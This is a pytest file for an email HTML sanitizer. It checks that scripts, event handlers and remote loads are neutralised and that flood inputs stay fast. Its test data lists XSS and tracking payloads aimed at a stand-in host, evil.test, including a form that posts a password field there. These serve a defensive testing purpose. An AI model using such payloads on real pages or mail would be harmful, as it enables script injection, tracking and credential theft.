"""HTML for the frame: what would run, load or lead elsewhere is without effect, the rest as it was."""

import time

import pytest

from kairan.capture.html import shown_html
from kairan.capture.read import read_message


def shown(html, *, head=b"Content-Type: text/html; charset=utf-8"):
    read = read_message(head + b"\r\n\r\n" + html.encode())
    return shown_html(read, read.html_part)


def test_plain_html_is_as_it_came():
    html = '<style>p { color: red }</style><p class="x">給与 <a href="https://a.test/">link</a></p>'
    assert shown(html) == (html, 0)


@pytest.mark.parametrize("html", [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js>",
    "<img src=http://evil.test/pixel.png>",
    "<img src=x onerror=alert(1)>",
    "<img/src=//evil.test/x>",
    "<img srcset='//evil.test/x 2x'>",
    "<svg onload=alert(1)><image href=//evil.test/x /><use xlink:href='//evil.test/x#a'/></svg>",
    "<link rel=dns-prefetch href=//evil.test>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<iframe src=//evil.test></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.test></object><embed src=//evil.test>",
    "<form action=//evil.test><input name=password></form>",
    "<video poster=//evil.test/x src=//evil.test/y></video>",
    "<body background=//evil.test/x>",
    "<p style='background: url(//evil.test/x)'>",
    "<style>@import '//evil.test/x.css'; @font-face { src: url('//evil.test/x') }</style>",
    "<a href=https://a.test ping=//evil.test>x</a>",
])  # fmt: skip
def test_what_would_run_load_or_lead_elsewhere_is_without_effect_and_counted(html):
    text, number = shown(html)
    assert number >= 1
    assert "<script" not in text.lower()
    assert text != html


def test_a_messages_own_pictures_are_inside_the_page_and_no_others():
    body = (
        b"--b\r\nContent-Type: text/html\r\n\r\n<img src=\"cid:logo\"><img src=cid:svg><img src=cid:none>"
        b"\r\n--b\r\nContent-Type: image/png\r\nContent-ID: <logo>\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\niVBORw==\r\n"
        b"--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <svg>\r\n\r\n<svg/>\r\n--b--\r\n"
    )  # fmt: skip
    read = read_message(b"Content-Type: multipart/related; boundary=b\r\n\r\n" + body)
    text, number = shown_html(read, read.html_part)
    assert 'src="data:image/png;base64,iVBORw=="' in text
    assert text.count("data:") == 1
    assert number == 2


@pytest.mark.parametrize("html", [
    "<SCRIPT>alert(1)</SCRIPT>",
    "</form x>",
    "<frameset>",
    "<fencedFrame src=x>",
    "<IMAGE-SET style='background: IMAGE-SET(x)'>",
    "<p style='b: URL( //evil.test)'>",
    "<style>@IMPORT 'x'</style>",
    "<a\npinG=//evil.test>x</a>",
    "<img/src=x>",
])  # fmt: skip
def test_letters_of_either_case_and_blanks_of_any_kind_hide_nothing(html):
    assert shown(html)[1] >= 1


@pytest.mark.parametrize("html", [
    "<scripts>x</scripts>",
    "<form-of-words>",
    "<\u017fcript>",
    "< script>",
    "a script, a form (src) and an url",
    "<p style='background: url( \"data:image/png;base64,x')>",
    "<p><b>1 < 2 && on=3</b></p>",
])  # fmt: skip
def test_what_only_looks_like_it_is_left(html):
    assert shown(html) == (html, 0)


OCTETS = 256 * 1024
FLOODS = {
    "less-than": "<",
    "ampersands": "&",
    "comments": "<!--",
    "tags that do not end": "<a ",
    "tags that begin as forbidden ones": "<s",
    "ends that begin so": "</f",
    "forbidden tags": "<script>",
    "nested": "<div>",
    "nested with a blank": "<div >",
    "entities": "&lt;",
    "entities that do not end": "&#x",
    "quotes": '<a href="x ',
    "addresses in styles": "url(",
    "imports": "@import",
    "parts": "(cid:a",
    "slashes": "<a/",
    "loading tags": "<img src=x>",
}


def processor_seconds(html):
    """The least of three looks: what else the machine does is in the others."""
    read = read_message(b"Content-Type: text/html; charset=utf-8\r\n\r\n" + html.encode())
    looks = []
    for _ in range(3):
        began = time.thread_time()
        shown_html(read, read.html_part)
        looks.append(time.thread_time() - began)
    return min(looks)


@pytest.mark.parametrize("flood", [
    *(pytest.param(one * (OCTETS // len(one)), id=name) for name, one in FLOODS.items()),
    pytest.param("<a " + " ".join(f"a{n}=x" for n in range(10_000)) + ">", id="attributes"),
    pytest.param("<a " + "onx=1 " * 10_000 + ">", id="attributes that run"),
    pytest.param("<a on" + "a" * OCTETS + ">", id="a long name"),
    pytest.param("<a src" + " " * OCTETS + "x>", id="a name and no sign behind it"),
    pytest.param('<a href="' + "x" * OCTETS, id="a quote that does not end"),
])  # fmt: skip
def test_a_flood_takes_no_longer_than_a_few_times_ordinary_mail(flood):
    """Measured against what the same machine needs for ordinary mail in this moment."""
    plain = '<p class="x">給与明細は <a href="https://a.test/">here</a></p>\n'
    ordinary = processor_seconds(plain * (OCTETS // len(plain.encode())))
    assert processor_seconds(flood) < 5 * ordinary
    assert processor_seconds(flood * 2) < 6 * processor_seconds(flood) + 0.05


def test_the_square_of_nothing_is_taken():
    for html in (
        "<a " * 80_000,
        "<" * 250_000,
        "cid:" * 60_000,
        "<a on=" * 40_000,
        "url(" * 60_000,
    ):
        shown(html)
